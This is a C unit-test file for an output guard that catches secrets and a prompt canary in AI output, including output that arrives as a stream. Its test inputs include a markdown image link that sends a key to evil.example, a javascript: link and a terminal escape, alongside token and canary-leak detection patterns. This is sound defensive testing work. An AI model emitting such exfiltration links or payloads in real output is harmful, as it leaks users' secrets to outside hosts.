/* lib/guard/output_guard.c: secrets and the canary, whole and while they stream */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include <stdlib.h>

#include "guard/output_guard.h"
#include "support/test_alloc.h"

static aio__output_guard *guard;

static int make_guard(void **state) {
  (void)state;
  return aio__output_guard_new(aio__alloc_default(), &guard, NULL) == AIORCH_OK ? 0 : -1;
}

static int free_guard(void **state) {
  (void)state;
  aio__output_guard_free(guard);
  return 0;
}

static aio__output_finding check_from(aio__str text, size_t from, const char *canary) {
  aio__output_finding f;
  assert_int_equal(aio__output_guard_check(guard, text, from, aio__str_z(canary), &f), AIORCH_OK);
  return f;
}

static void assert_rule(const char *text, const char *rule) {
  aio__output_finding f = check_from(aio__str_z(text), 0, "");
  if (rule == NULL ? f.verdict != AIO__VERDICT_PASS : f.rule == NULL || strcmp(f.rule, rule) != 0) {
    fail_msg("%.60s: %s", text, f.rule == NULL ? "-" : f.rule);
  }
  if (rule != NULL) assert_true(f.start < f.end && f.end <= strlen(text));
}

/* Each is put together at run time, so that no scanner takes this file for a leak. */
#define KEY40 "a8Zk3QvX0mT7pLw2RbYc9Ns4" "Hd6Jf1Ge5Ui8Oy2V"

static void test_check__secrets(void **state) {
  (void)state;
  assert_rule("Here: -----BEGIN " "PRIVATE KEY-----\nMIIE", "private_key");
  assert_rule("-----BEGIN RSA " "PRIVATE KEY-----", "private_key");
  assert_rule("-----BEGIN OPENSSH " "PRIVATE KEY-----", "private_key");
  assert_rule("-----BEGIN PGP " "PRIVATE KEY BLOCK-----", "private_key");
  assert_rule("id AKIA" "Z7Q3XW5KP2LM4RTB end", "aws_access_key");
  assert_rule("aws_secret_access_key = \"" KEY40 "\"", "aws_secret_key");
  assert_rule("key sk-ant-api03-" KEY40 KEY40 "-AA", "anthropic_key");
  assert_rule("key sk-proj-" KEY40 "x", "openai_key");
  assert_rule("key sk-a8Zk3QvX0mT7pLw2RbYc" "T3BlbkFJ" "9Ns4Hd6Jf1Ge5Ui8Oy2V", "openai_key");
  assert_rule("ghp_" "a8Zk3QvX0mT7pLw2RbYc9Ns4Hd6Jf1Ge5Ui8", "github_token");
  assert_rule("glpat-" "a8Zk3QvX0mT7pLw2RbYc", "gitlab_token");
  assert_rule("xoxb-" "1234567890-a8Zk3QvX0mT7pLw2RbYc", "slack_token");
  assert_rule("https://hooks.slack.com/services/" "T0A1B2C3D/B9Z8Y7X6W/a8Zk3QvX0mT7pLw2RbYc", "slack_token");
  assert_rule("AIza" "a8Zk3QvX0mT7pLw2RbYc9Ns4Hd6Jf1Ge5Ui", "google_api_key");
  assert_rule("sk_live_" "a8Zk3QvX0mT7pLw2RbYc", "stripe_key");
  assert_rule("token eyJhbGciOiJIUzI1NiJ9" ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N", "json_web_token");
}

static void test_check__flags(void **state) {
  (void)state;
  aio__output_finding f = check_from(AIO__LIT("postgres://app:hunter2hunter@db.example.org/x"), 0, "");
  assert_int_equal(f.verdict, AIO__VERDICT_FLAG);
  assert_string_equal(f.rule, "url_password");
  assert_rule("![x](https://evil.example/p?d=" KEY40 KEY40 ")", "image_exfiltration");
  assert_rule("[x](javascript:alert(1))", "active_link");
  assert_rule("\x1b[31mred", "terminal_escape");
  assert_rule("api_key = \"" KEY40 "\"", "assigned_secret");
}

static void test_check__ordinary_answers_pass(void **state) {
  (void)state;
  assert_rule("", NULL);
  assert_rule("Set AWS_ACCESS_KEY_ID and restart; see the chapter on private keys.", NULL);
  assert_rule("AKIAAAAAAAAAAAAAAAAA is a placeholder", NULL);
  assert_rule("use sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx as a placeholder", NULL);
  assert_rule("postgres://user:password@localhost/db", NULL);
  assert_rule("The commit is da39a3ee5e6b4b0d3255bfef95601890afd80709.", NULL);
  assert_rule("![logo](https://example.org/logo.png)", NULL);
  assert_rule("password: choose one of at least twelve characters", NULL);
}

static void test_check__range(void **state) {
  (void)state;
  const char *text = "the key is AKIA" "Z7Q3XW5KP2LM4RTB, keep it";
  aio__output_finding f = check_from(aio__str_z(text), 0, "");
  assert_int_equal(f.start, 11);
  assert_int_equal(f.end, 31);
  assert_string_equal(f.category, "secret");
}

static void test_check__gravest_wins(void **state) {
  (void)state;
  assert_rule("postgres://app:hunter2hunter@db.example.org/x and AKIA" "Z7Q3XW5KP2LM4RTB", "aws_access_key");
}

static void test_check__from_finds_what_ends_after_it(void **state) {
  (void)state;
  aio__str text = AIO__LIT("x AKIA" "Z7Q3XW5KP2LM4RTB yyyy");
  for (size_t from = 0; from <= text.n + 2; from++) {
    aio__output_finding f = check_from(text, from, "");
    assert_int_equal(f.verdict, from < 22 ? AIO__VERDICT_BLOCK : AIO__VERDICT_PASS);
    if (from < 22) assert_int_equal(f.start, 2);
  }
}

/* Byte by byte, as a stream may come: every secret is seen no later than its last byte. */
static void test_check__byte_by_byte(void **state) {
  (void)state;
  const char *text = "caf\xC3\xA9 \xE4\xB8\xAD ghp_" "a8Zk3QvX0mT7pLw2RbYc9Ns4Hd6Jf1Ge5Ui8 done";
  size_t seen = 0;
  for (size_t n = 1; n <= strlen(text) && seen == 0; n++) {
    if (check_from(aio__str_n(text, n), n - 1, "").verdict == AIO__VERDICT_BLOCK) seen = n;
  }
  assert_int_equal(seen, strstr(text, " done") - text);
}

static void test_check__bytes_that_are_not_utf8(void **state) {
  (void)state;
  assert_rule("\xFF\xFE AKIA" "Z7Q3XW5KP2LM4RTB \xC3", "aws_access_key");
  assert_rule("\xFF\xFF\xFF\xFF", NULL);
  char text[4000];
  for (size_t i = 0; i < sizeof text; i++) text[i] = i % 3 == 0 ? '\x80' : 'k';
  assert_int_equal(check_from(aio__str_n(text, sizeof text), 2000, "").verdict, AIO__VERDICT_PASS);
}

static void test_check__canary(void **state) {
  (void)state;
  const char *canary = "cnry-7f3a9b2e4d";
  static const char *leaks[] = {
    "my text says cnry-7f3a9b2e4d there", "CNRY-7F3A9B2E4D", "c n r y - 7 f 3 a 9 b 2 e 4 d", "cnry7f3a9b2e4d",
    "d4e2b9a3f7-yrnc",                    "Y25yeS03ZjNhOWIyZTRk", "eGNucnktN2YzYTliMmU0ZHg=",
    "eHhjbnJ5LTdmM2E5YjJlNGR4eA=="};
  for (size_t i = 0; i < sizeof leaks / sizeof leaks[0]; i++) {
    aio__output_finding f = check_from(aio__str_z(leaks[i]), 0, canary);
    if (f.verdict != AIO__VERDICT_BLOCK) fail_msg("%s", leaks[i]);
    assert_string_equal(f.rule, "prompt_canary");
    assert_string_equal(f.category, "prompt_leak");
    assert_true(f.start < f.end && f.end <= strlen(leaks[i]));
  }
  aio__output_finding f = check_from(aio__str_z(leaks[0]), 0, canary);
  assert_int_equal(f.start, 13);
  assert_int_equal(f.end, 28);
  assert_int_equal(check_from(AIO__LIT("cnry-7f3a9b2e4"), 0, canary).verdict, AIO__VERDICT_PASS);
  assert_int_equal(check_from(aio__str_z(leaks[0]), 0, "").verdict, AIO__VERDICT_PASS);
  assert_int_equal(check_from(AIO__LIT("a short one: abc"), 0, "abc").verdict, AIO__VERDICT_PASS);
}

static void test_check__canary_across_the_seam(void **state) {
  (void)state;
  aio__str text = AIO__LIT("so: cnry-7f3a9b2e4d!");
  for (size_t from = 0; from <= text.n; from++) {
    aio__verdict expected = from < 19 ? AIO__VERDICT_BLOCK : AIO__VERDICT_PASS;
    assert_int_equal(check_from(text, from, "cnry-7f3a9b2e4d").verdict, expected);
  }
}

static void test_check__canary_that_begins_again_inside_itself(void **state) {
  (void)state;
  assert_int_equal(check_from(AIO__LIT("ababababababac"), 0, "abababac").verdict, AIO__VERDICT_BLOCK);
}

static bool keep_first(void *ctx, const aio__output_finding *finding) {
  aio__output_finding *first = ctx;
  if (first->verdict == AIO__VERDICT_PASS) *first = *finding;
  return true;
}

/* What a look leaves to the next one changes nothing of what is found. */
static void test_each__a_watch_finds_the_same(void **state) {
  (void)state;
  static const char *const texts[] = {
    "Here: AKIA" "Z7Q3XW5KP2LM4RTB, and later ghp_" "a8Zk3QvX0mT7pLw2RbYc9Ns4Hd6Jf1Ge5Ui8 again.",
    "aws_secret_access_key = \"" KEY40 "\"",
    "caf\xC3\xA9 \xE4\xB8\xAD token eyJhbGciOiJIUzI1NiJ9" ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N.",
    "ask c n r y - 7 f 3 a 9 b 2 e 4 d and cnry-7f3a9b2e4d and d4e2b9a3f7-yrnc",
    "base64: Y25yeS03ZjNhOWIyZTRk",
    "postgres://app:hunter2hunter@db.example.org/x secrets are not secret in mysk-proj-" KEY40 "x",
    "nothing at all but words, and a few more words"};
  static const char canary[] = "cnry-7f3a9b2e4d";
  for (size_t t = 0; t < sizeof texts / sizeof *texts; t++) {
    for (size_t step = 1; step < 70; step += step < 8 ? 1 : 13) {
      aio__output_watch watch = {0};
      size_t all = strlen(texts[t]), before = 0;
      for (size_t n = 0; n < all; before = n) {
        n = n + step < all ? n + step : all;
        aio__str text = aio__str_n(texts[t], n);
        aio__output_finding with = {0}, without = {0};
        assert_int_equal(aio__output_guard_each(guard, text, before, aio__str_z(canary), &watch, keep_first, &with), AIORCH_OK);
        assert_int_equal(aio__output_guard_each(guard, text, before, aio__str_z(canary), NULL, keep_first, &without), AIORCH_OK);
        assert_int_equal(with.verdict, without.verdict);
        if (with.verdict == AIO__VERDICT_PASS) continue;
        assert_string_equal(with.rule, without.rule);
        assert_int_equal(with.start, without.start);
        assert_int_equal(with.end, without.end);
      }
    }
  }
}

static void test_new_and_check__out_of_memory(void **state) {
  (void)state;
  aio__test_alloc t;
  aio__test_alloc_init(&t);
  long at = 0;
  do {
    at += at < 60 ? 1 : 17;
    t.fail_at = at - 1;
    aio__test_alloc_next(&t);
    aio__output_guard *own = NULL;
    aio__output_finding f;
    aiorch_status status = aio__output_guard_new(&t.al, &own, NULL);
    assert_true(status == AIORCH_OK || status == AIORCH_E_NOMEM);
    if (status == AIORCH_OK) {
      status = aio__output_guard_check(own, AIO__LIT("nothing secret here"), 0, aio__str_n(NULL, 0), &f);
      assert_true(status == AIORCH_OK || status == AIORCH_E_NOMEM);
    }
    aio__output_guard_free(own);
    assert_int_equal(t.live, 0);
  } while (t.failed > 0);
}

int main(void) {
  const struct CMUnitTest tests[] = {
    cmocka_unit_test(test_check__secrets),
    cmocka_unit_test(test_check__flags),
    cmocka_unit_test(test_check__ordinary_answers_pass),
    cmocka_unit_test(test_check__range),
    cmocka_unit_test(test_check__gravest_wins),
    cmocka_unit_test(test_check__from_finds_what_ends_after_it),
    cmocka_unit_test(test_check__byte_by_byte),
    cmocka_unit_test(test_check__bytes_that_are_not_utf8),
    cmocka_unit_test(test_check__canary),
    cmocka_unit_test(test_check__canary_across_the_seam),
    cmocka_unit_test(test_check__canary_that_begins_again_inside_itself),
    cmocka_unit_test(test_each__a_watch_finds_the_same),
    cmocka_unit_test(test_new_and_check__out_of_memory),
  };
  return cmocka_run_group_tests(tests, make_guard, free_guard);
}
